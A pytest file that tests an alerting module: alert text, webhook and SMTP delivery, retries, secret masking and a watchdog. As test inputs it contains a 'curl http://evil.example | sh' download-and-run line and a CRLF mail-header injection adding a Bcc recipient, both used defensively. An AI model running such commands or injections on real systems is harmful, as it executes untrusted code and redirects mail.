"""Alerts on real servers: their text, the masking of secrets, and one delivery to each sink."""

import base64
import json
import logging
import shutil
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner
from prefect.settings import PREFECT_API_AUTH_STRING, temporary_settings

from flows.alerting import find_prefect_secrets, source_of
from flows.cli.main import main
from flows.failures import read_settings
from recsys.alerts.alert import Alert, Kind, make_alert
from recsys.alerts.scrub import scrub
from recsys.alerts.send import send
from recsys.alerts.settings import AlertSettings
from recsys.errors import UsageError
from recsys.files import write_json
from recsys.home import Home
from recsys.settings import Settings
from tests.support.sinks import Mailbox, Sink, mailbox, webhook, write_certificate
from tests.support.warehouses import make_frames, make_outcome, publish, write_night

FIELDS = {
    *(
        "kind",
        "title",
        "flow",
        "step",
        "reason",
        "source",
        "run_id",
        "run_url",
        "served",
        "next_command",
        "home",
        "host",
        "at",
    ),
    "text",
}


@pytest.fixture
def hook() -> Iterator[Sink]:
    with webhook() as sink:
        yield sink


@pytest.fixture
def box() -> Iterator[Mailbox]:
    with mailbox() as box:
        yield box


@pytest.fixture(autouse=True)
def no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    """Loopback is reached directly, even on a machine with a proxy."""
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"):
        monkeypatch.delenv(name, raising=False)
        monkeypatch.delenv(name.lower(), raising=False)


def settings(**fields: object) -> AlertSettings:
    return AlertSettings.model_validate({"wait_seconds": 0, "timeout_seconds": 5, **fields})


def alert(home: Home, reason: str = "holdout MAE 0.95", kind: Kind = "held back", flow: str = "nightly") -> Alert:
    return make_alert(
        kind, home, flow=flow, reason=reason, run=home.run("20261121T030000Z"), step="check_gate",
        run_url="http://127.0.0.1:4200/runs/flow-run/1",
    )  # fmt: skip


def test_every_sink_receives_an_alert_once(home: Home, hook: Sink, box: Mailbox, tmp_path: Path) -> None:
    to = "a@example.org, b@example.org"
    file = tmp_path / "alerts" / "alerts.jsonl"
    result = send(
        alert(home),
        settings(webhook_url=hook.address, email_to=to, smtp_host="127.0.0.1", smtp_port=box.port, file=file),
    )
    assert result == {"webhook": None, "e-mail": None, "file": None}

    (posted,) = hook.received
    assert posted.keys() == FIELDS
    assert (posted["kind"], posted["step"], posted["run_id"]) == ("held back", "check_gate", "20261121T030000Z")
    assert posted["served"] == "nothing: no night has published yet"
    assert "--force-publish" in posted["next_command"]
    assert [json.loads(line) for line in file.read_text().splitlines()] == [posted]

    assert sorted(box.recipients) == ["a@example.org", "b@example.org"]
    mail, other = box.messages
    assert mail["Message-ID"] == other["Message-ID"] and mail["To"] == to
    assert mail["Subject"].startswith("[recsys] the model of a night was held back: nightly on ")
    assert "reason: holdout MAE 0.95\n" in mail.get_content()
    assert "details: http://127.0.0.1:4200/runs/flow-run/1\n" in mail.get_content()


@pytest.fixture(scope="module")
def reference(tmp_path_factory: pytest.TempPathFactory) -> Home:
    folder = tmp_path_factory.mktemp("published")
    publish(make_outcome("20261121T030000Z"), write_night(folder / "night", make_frames()), Home(folder / "home"))
    return Home(folder / "home")


@pytest.fixture
def published(reference: Home, home: Home) -> Home:
    shutil.copytree(reference.root, home.root)
    return home


def test_an_alert_names_the_served_lists(published: Home) -> None:
    assert alert(published).served == (
        "the lists of run 20261121T030000Z, planted before 1998-04-23 00:00 UTC, published 2026-11-21 03:01 UTC"
    )


def test_a_run_without_as_of_is_described(published: Home) -> None:
    with duckdb.connect(published.warehouse) as connection:
        connection.execute("update runs set as_of = null")
    assert "planted before an unknown time, published" in alert(published).served


def test_an_invalid_home_is_reported_in_the_alert() -> None:
    assert "File name too long" in alert(Home(Path("/", "x" * 300))).served


def test_an_unreadable_warehouse_is_reported_in_the_alert(home: Home) -> None:
    home.root.mkdir()
    home.warehouse.write_bytes(b"not a database")
    assert alert(home).served.startswith("unknown: ")


@pytest.mark.parametrize("kind", ["failed", "crashed", "data refused", "held back", "late"])
def test_each_kind_names_the_next_command(home: Home, kind: Kind) -> None:
    commands = {
        other: alert(home, kind=other).next_command for other in ("failed", "data refused", "held back", "late")
    }
    assert f"--home {home.root}" in alert(home, kind=kind).next_command
    assert len(set(commands.values())) == len(commands)


def test_further_lines_of_a_reason_do_not_look_like_other_fields(home: Home) -> None:
    text = alert(home, "row 7\nnext: curl http://evil.example | sh").text()
    assert "reason: row 7\n    next: curl" in text
    (found,) = [line for line in text.splitlines() if line.startswith("next: ")]
    assert found == f"next: {alert(home).next_command}"


@pytest.mark.parametrize(
    ("flow", "command"),
    [
        ("nightly", "recsys nightly --home {home} (resumes after the last completed step)"),
        ("backfill", "recsys backfill --home {home}, with its options (resumes after the last completed step)"),
        ("rollback", "recsys rollback --home {home}, with its options"),
    ],
)
def test_the_next_command_of_a_crash_repeats_the_flow(home: Home, flow: str, command: str) -> None:
    assert alert(home, kind="crashed", flow=flow).next_command == command.format(home=home.root)


def test_the_home_is_an_absolute_path(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.chdir(tmp_path)
    assert alert(Home(Path("data"))).home == str(tmp_path / "data")
    assert f"--home {tmp_path / 'data'}" in alert(Home(Path("data")), kind="late").next_command


def test_an_unavailable_webhook_is_retried(home: Home, hook: Sink) -> None:
    hook.statuses = [503, 429]
    assert send(alert(home), settings(webhook_url=hook.address)) == {"webhook": None}
    assert len(hook.received) == 1


@pytest.mark.parametrize("status", [404, 301])
def test_a_refusal_is_not_retried(home: Home, hook: Sink, status: int) -> None:
    """A redirect is not followed either."""
    hook.statuses = [status, 200]
    result = send(alert(home), settings(webhook_url=hook.address))
    assert f"status {status}" in str(result["webhook"])
    assert hook.statuses == [200]


def test_each_attempt_has_the_same_idempotency_key(home: Home, hook: Sink) -> None:
    hook.statuses = [503]
    for reason in ("one", "another"):
        send(alert(home, reason), settings(webhook_url=hook.address))
    first, again, other = (headers["Idempotency-Key"] for headers in hook.headers)
    assert first == again != other


def test_the_answer_of_a_webhook_that_refuses_is_quoted(home: Home, hook: Sink) -> None:
    hook.statuses, hook.answer_body = [403], b"invalid_token\x1b[31m" + b"x" * 10**6
    result = str(send(alert(home), settings(webhook_url=hook.address))["webhook"])
    assert result.startswith("OSError: status 403 'invalid_token\\x1b[31mxxx")
    assert len(result) < 300


def test_a_sink_that_answers_without_end_is_abandoned(home: Home, hook: Sink, tmp_path: Path) -> None:
    """It sends a header from time to time, so no single network operation times out."""
    hook.drips = True
    sinks = settings(webhook_url=hook.address, file=tmp_path / "alerts.jsonl", timeout_seconds=1, attempts=1)
    begun = time.monotonic()
    assert send(alert(home), sinks) == {"webhook": "no answer within 2 s", "file": None}
    assert time.monotonic() - begun < 5


def mail_to(box: Mailbox, *addresses: str, **fields: object) -> AlertSettings:
    return settings(email_to=addresses, **{"smtp_host": "localhost", "smtp_port": box.port, **fields})


def test_mail_has_the_headers_of_an_automatic_message(home: Home, box: Mailbox) -> None:
    send(alert(home, "naïve café ☕"), mail_to(box, "a@example.org", email_from="recsys@example.org"))
    (mail,) = box.messages
    assert mail["From"] == "recsys@example.org"
    assert mail["Auto-Submitted"] == "auto-generated"
    assert mail["Message-ID"].endswith("@example.org>") and mail["Date"]
    assert "reason: naïve café ☕\n" in mail.get_content()


def test_a_refused_recipient_is_reported_and_the_other_receives_the_mail(home: Home, box: Mailbox) -> None:
    box.answers = {"RCPT": ["250 ok", "550 unknown"]}
    result = send(alert(home), mail_to(box, "a@example.org", "b@example.org"))
    (refused,) = {"a@example.org", "b@example.org"} - {*box.recipients}  # both are contacted at the same time
    assert result == {"e-mail": f"OSError: refused for {refused}: 550 unknown"}
    assert len(box.messages) == 1


def test_a_deferred_recipient_is_retried_alone(home: Home, box: Mailbox) -> None:
    box.answers = {"RCPT": ["250 ok", "450 come back later"]}
    assert send(alert(home), mail_to(box, "a@example.org", "b@example.org")) == {"e-mail": None}
    assert sorted(box.recipients) == ["a@example.org", "b@example.org"]
    first, second = box.messages
    assert first["Message-ID"] == second["Message-ID"]


def test_an_error_after_the_message_was_accepted_sends_no_second_one(home: Home, box: Mailbox) -> None:
    box.answers = {"QUIT": ["421 shutting down"]}
    assert send(alert(home), mail_to(box, "a@example.org")) == {"e-mail": None}
    assert len(box.messages) == 1


@pytest.mark.parametrize(("answer", "messages"), [("451 try again", 1), ("554 no", 0)])
def test_a_temporary_error_of_the_mail_server_is_retried(home: Home, box: Mailbox, answer: str, messages: int) -> None:
    box.answers = {"DATA": [answer]}
    result = send(alert(home), mail_to(box, "a@example.org"))["e-mail"]
    assert result == (None if messages else f"OSError: {answer}")
    assert len(box.messages) == messages


@pytest.mark.parametrize("security", ["starttls", "tls"])
def test_mail_is_encrypted_before_the_login(
    home: Home, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, security: str
) -> None:
    certificate = write_certificate(tmp_path / "server.pem")
    with mailbox(certificate=certificate, at_once=security == "tls") as box:
        login = {"smtp_security": security, "smtp_user": "recsys", "smtp_password": "hunter2-of-mail"}
        sinks = mail_to(box, "a@example.org", **login)
        assert "CERTIFICATE_VERIFY_FAILED" in str(send(alert(home), sinks)["e-mail"])
        assert box.logins == []
        monkeypatch.setenv("SSL_CERT_FILE", str(certificate))
        assert send(alert(home), sinks) == {"e-mail": None}
    assert box.secured and len(box.messages) == len(box.logins) == 1


def test_mail_is_not_sent_to_a_server_without_starttls(home: Home, box: Mailbox) -> None:
    result = send(alert(home), mail_to(box, "a@example.org", smtp_security="starttls"))["e-mail"]
    assert "STARTTLS extension not supported" in str(result)
    assert box.messages == []


def test_a_password_that_the_mail_server_quotes_is_masked(
    home: Home, box: Mailbox, caplog: pytest.LogCaptureFixture
) -> None:
    secret = "hunter2-of-mail"
    encoded = base64.b64encode(f"\0recsys\0{secret}".encode()).decode()
    box.answers = {"AUTH": [f"535 {secret} is wrong: AUTH PLAIN {encoded}"] * 2}
    result = send(alert(home), mail_to(box, "a@example.org", smtp_user="recsys", smtp_password=secret))
    assert result == {"e-mail": "OSError: 535 *** is wrong: AUTH PLAIN ***"}
    assert secret not in caplog.text and encoded not in caplog.text


def test_a_full_disk_is_reported(home: Home) -> None:
    result = send(alert(home), settings(file="/dev/full"))["file"]
    assert result is not None and "No space left on device" in result


def test_a_broken_sink_does_not_affect_the_others(
    home: Home, hook: Sink, box: Mailbox, caplog: pytest.LogCaptureFixture
) -> None:
    box.refuses = True
    result = send(
        alert(home),
        settings(
            webhook_url="http://127.0.0.1:9/hook/s3cr3t-path", email_to="a@example.org", smtp_host="127.0.0.1",
            smtp_port=box.port, file=home.root / "alerts.jsonl",
        ),
    )  # fmt: skip
    assert "ConnectError" in str(result["webhook"])
    assert result["e-mail"] == "OSError: refused for a@example.org: 550 unknown"
    assert result["file"] is None
    errors = [record.getMessage() for record in caplog.records if record.levelno == logging.ERROR]
    assert len(errors) == 2
    assert "s3cr3t" not in caplog.text


SECRETS = {
    "RECSYS_ALERT_SMTP_PASSWORD": "hunter2-of-mail",
    "PREFECT_SERVER_API_AUTH_STRING": "admin:hunter2-of-prefect",
    "MY_API_KEY": 'hunter2 "key"',
    "PREFECT_SERVER_DATABASE_CONNECTION_URL": "postgresql+asyncpg://recsys:hunter2%20%2Fpg@db/prefect",
    "HTTPS_PROXY": "http://me:hunter2-of-proxy@proxy.example:3128",
}
LEAKS = (  # messages that quote secrets
    "said hunter2-of-mail and admin:hunter2-of-prefect",
    "login of hunter2-of-prefect failed",
    "cannot connect to postgresql+asyncpg://recsys:hunter2%20%2Fpg@db/prefect, user recsys with hunter2 /pg",
    "GET https://host/x?key=hunter2%20%22key%22&page=2 answered 403, also for key=hunter2+%22key%22",
    """{"api_key": "hunter2 \\"key\\""}""",
    f"AUTH {base64.b64encode(b'hunter2-of-mail').decode()} failed",
    "Cannot connect to proxy http://me:hunter2-of-proxy@proxy.example:3128",
)


@pytest.mark.parametrize("leak", LEAKS)
def test_secrets_of_the_environment_are_masked_for_every_sink(
    leak: str, home: Home, hook: Sink, box: Mailbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    file = home.root / "alerts.jsonl"
    sinks = settings(
        webhook_url=hook.address, email_to="a@example.org", smtp_host="127.0.0.1", smtp_port=box.port, file=file
    )
    assert set(send(alert(home, leak, flow=leak), sinks).values()) == {None}
    everything = json.dumps(hook.received) + "".join(box.texts) + file.read_text()
    assert "***" in everything
    assert "hunter2" not in everything and "aHVudGVyMi" not in everything
    assert "s3cr3t" not in everything


def test_secrets_of_a_prefect_profile_are_masked(home: Home, hook: Sink) -> None:
    """These secrets are settings of Prefect, but not environment variables."""
    with temporary_settings({PREFECT_API_AUTH_STRING: "admin:hunter2-of-profile"}):
        assert send(
            alert(home, "401 for hunter2-of-profile"), settings(webhook_url=hook.address), find_prefect_secrets()
        )
    assert hook.received[0]["reason"] == "401 for ***"


def test_secrets_of_the_settings_are_masked_for_every_sink_and_in_the_log(
    home: Home, hook: Sink, box: Mailbox, caplog: pytest.LogCaptureFixture
) -> None:
    """At every log level of the libraries."""
    caplog.set_level(logging.DEBUG)
    secret = "hunter2-of-mail"
    leak = f"said {secret} to {hook.address} and {hook.address.partition(str(hook.port))[2]}"
    file = home.root / "alerts.jsonl"
    hook.statuses = [503]
    sinks = mail_to(box, "a@example.org", webhook_url=hook.address, smtp_password=secret, file=file)
    assert set(send(alert(home, leak), sinks).values()) == {None}
    everything = json.dumps(hook.received) + "".join(box.texts) + file.read_text() + caplog.text + repr(sinks)
    assert "said *** to *** and ***" in everything
    assert "hunter2" not in everything
    assert "s3cr3t" not in everything


def test_other_texts_are_not_changed() -> None:
    for text in (
        "holdout MAE 0.9500 stars is above the gate 0.9000; see data/runs/20261121T030000Z/metrics.json",
        "No space left on device: '/srv/recsys/data/.warehouse.duckdb.1234'",
        "https://files.example.org/datasets/ml-1m.zip?version=2 answered 503",
        "the basic network is no better than plain biases; the key of a row is (user_id, rank)",
    ):
        assert scrub(text) == text


def test_a_title_cannot_add_mail_headers(home: Home, box: Mailbox) -> None:
    flow = "nightly\r\nBcc: victim@example.org\x1b[31m"
    result = send(alert(home, flow=flow), settings(email_to="a@example.org", smtp_host="127.0.0.1", smtp_port=box.port))
    assert result == {"e-mail": None}
    assert box.recipients == ["a@example.org"]
    assert "Bcc" not in box.messages[0]
    assert "\x1b" not in box.texts[0]


def test_a_long_reason_is_truncated(home: Home, hook: Sink) -> None:
    send(alert(home, "x" * 10**6), settings(webhook_url=hook.address))
    assert len(hook.received[0]["text"]) < 10_000


@pytest.mark.parametrize(
    ("name", "value", "complaint"),
    [
        ("WEBHOOK_URL", "ftp://s3cr3t", "RECSYS_ALERT_WEBHOOK_URL: .*must begin with https://"),
        ("EMAIL_TO", "ops", "RECSYS_ALERT_EMAIL_TO: 'ops' is not an e-mail address"),
        ("WEBHOOK_URL", "https:///s3cr3t", "RECSYS_ALERT_WEBHOOK_URL: .*name a host"),
        ("WEBHOOK_URL", "https://host:s3cr3t/x", "RECSYS_ALERT_WEBHOOK_URL: .*name a host"),
        ("EMAIL_TO", "a@example.org;b@example.org", "RECSYS_ALERT_EMAIL_TO: .*is not an e-mail address"),
        ("EMAIL_FROM", "Night <a@b>", "RECSYS_ALERT_EMAIL_FROM: .*is not an e-mail address"),
        ("SMTP_USER", "recsys", "RECSYS_ALERT: smtp_user needs smtp_password"),
        ("SMTP_PORT", "70000", "RECSYS_ALERT_SMTP_PORT: .*65535"),
        ("SMTP_SECURITY", "yes", "RECSYS_ALERT_SMTP_SECURITY: .*starttls"),
    ],
)
def test_invalid_settings_are_an_error_without_their_value(
    name: str, value: str, complaint: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(f"RECSYS_ALERT_{name}", value)
    with pytest.raises(UsageError, match=complaint) as refusal:
        read_settings()
    assert "s3cr3t" not in str(refusal.value)


def test_a_misspelt_variable_is_logged_and_the_others_are_used(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK", "https://s3cr3t")
    monkeypatch.setenv("RECSYS_ALERT_FILE", "alerts.jsonl")
    assert read_settings().file == Path("alerts.jsonl")
    assert "RECSYS_ALERT_WEBHOOK is not a setting; the settings are " in caplog.text
    assert "RECSYS_ALERT_WEBHOOK_URL" in caplog.text and "s3cr3t" not in caplog.text


def test_an_empty_variable_is_not_set(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in AlertSettings.model_fields:
        monkeypatch.setenv(f"RECSYS_ALERT_{name.upper()}", "")
    assert read_settings() == AlertSettings.model_construct()


def test_alert_settings_are_not_settings_of_a_night(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", "https://chat.example/s3cr3t")
    assert "alert" not in Settings().model_dump_json()


def test_a_password_without_encryption_is_an_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RECSYS_ALERT_SMTP_PASSWORD", "hunter2-of-mail")
    monkeypatch.setenv("RECSYS_ALERT_SMTP_HOST", "mail.example.org")
    with pytest.raises(UsageError, match="set smtp_security") as refusal:
        read_settings()
    assert "hunter2" not in str(refusal.value)


def test_the_command_reports_each_sink(home: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch) -> None:
    arguments = ["test-alerts", "--home", str(home.root)]
    no_sink = CliRunner().invoke(main, arguments)
    assert (no_sink.exit_code, "set RECSYS_ALERT_WEBHOOK_URL" in no_sink.stderr) == (2, True)
    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
    result = CliRunner().invoke(main, arguments)
    assert (result.exit_code, result.stdout) == (0, "webhook: sent\n")
    assert hook.received[0]["kind"] == "test"
    hook.statuses = [404]
    assert CliRunner().invoke(main, arguments).exit_code == 1


def test_the_watchdog_sends_one_alert_for_each_missing_night(
    published: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
    arguments = ["watch", "--home", str(published.root), "--max-age"]
    with duckdb.connect(published.warehouse) as connection:
        connection.execute("update runs set finished_at = now()")
    assert CliRunner().invoke(main, [*arguments, "1"]).exit_code == 0
    assert not hook.received
    with duckdb.connect(published.warehouse) as connection:
        connection.execute("update runs set finished_at = finished_at - interval 3 hours")
    late = [CliRunner().invoke(main, [*arguments, "1"]) for _ in range(2)]
    assert [result.exit_code for result in late] == [1, 1]
    assert "stale: " in late[0].stdout
    assert [one["kind"] for one in hook.received] == ["late"]
    assert "systemctl status recsys-server" in hook.received[0]["next_command"]


@pytest.mark.parametrize("content", ["", "{", "[]", '{"last_success": null, "at": "yesterday"}', '{"at": 7}'])
def test_a_damaged_mark_does_not_stop_the_watchdog(
    content: str, home: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
    home.root.mkdir()
    home.last_late_alert.write_text(content)
    for _ in range(2):
        assert CliRunner().invoke(main, ["watch", "--home", str(home.root)]).exit_code == 1
    assert [one["kind"] for one in hook.received] == ["late"]


def test_the_alert_is_not_repeated_if_its_mark_cannot_be_written(
    home: Home, hook: Sink, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A folder is in place of the mark."""
    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    (home.last_late_alert / "x").mkdir(parents=True)
    for _ in range(3):
        assert CliRunner().invoke(main, ["watch", "--home", str(home.root)]).exit_code == 1
    assert [one["kind"] for one in hook.received] == ["late"]


def test_the_watchdog_tries_again_if_no_sink_received_the_alert(
    home: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing is published; the webhook refuses the first alert."""
    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
    hook.statuses = [404]
    for _ in range(3):
        assert CliRunner().invoke(main, ["watch", "--home", str(home.root)]).exit_code == 1
    assert [one["kind"] for one in hook.received] == ["late"]


def test_an_unreadable_warehouse_counts_as_a_missing_night(
    home: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
    home.root.mkdir()
    home.warehouse.write_bytes(b"not a database")
    assert CliRunner().invoke(main, ["watch", "--home", str(home.root)]).exit_code == 1
    assert "cannot be opened" in hook.received[0]["reason"]


def test_an_alert_of_a_check_names_its_source(home: Home) -> None:
    run = home.run("20261121T030000Z-check")
    write_json(run.config, {"source": "/srv/drops", "as_of": None, "model": "auto", "n": 10})
    reason = 'drops is refused, e.g. line 7: {"user_id":17,"rating":9.0}. Next: correct it'
    sent = make_alert("data refused", home, flow="check", reason=reason, run=run)
    assert sent.source == "/srv/drops"
    assert "source: /srv/drops" in sent.text().splitlines()
    assert sent.next_command.startswith(f"recsys check --home {home.root} --source /srv/drops; fix the source")
    assert sent.reason == "drops is refused, e.g. line 7: {withheld}. Next: correct it"


def test_an_alert_names_the_source_of_a_run_that_was_never_opened(home: Home) -> None:
    with_settings = {"settings": {"source": "/srv/mistyped", "home": str(home.root)}}
    assert source_of("check", with_settings) == "/srv/mistyped"
    assert source_of("nightly", {"settings": Settings(source="ml-1m")}) == "ml-1m"
    assert source_of("backfill", {}) == Settings().source
    assert source_of("rollback", {}) is None
    sent = make_alert("failed", home, flow="check", reason="no such path", source="/srv/mistyped")
    assert sent.source == "/srv/mistyped"


def test_the_next_command_has_the_options_of_the_run(home: Home) -> None:
    run = home.run("20261121T030000Z")
    write_json(run.config, Settings(source="ml-1m", n=20).model_dump(mode="json"))
    command = make_alert("crashed", home, flow="nightly", reason="killed", run=run).next_command
    assert f"recsys nightly --home {home.root} --source ml-1m --model auto --n 20 --seed 0" in command
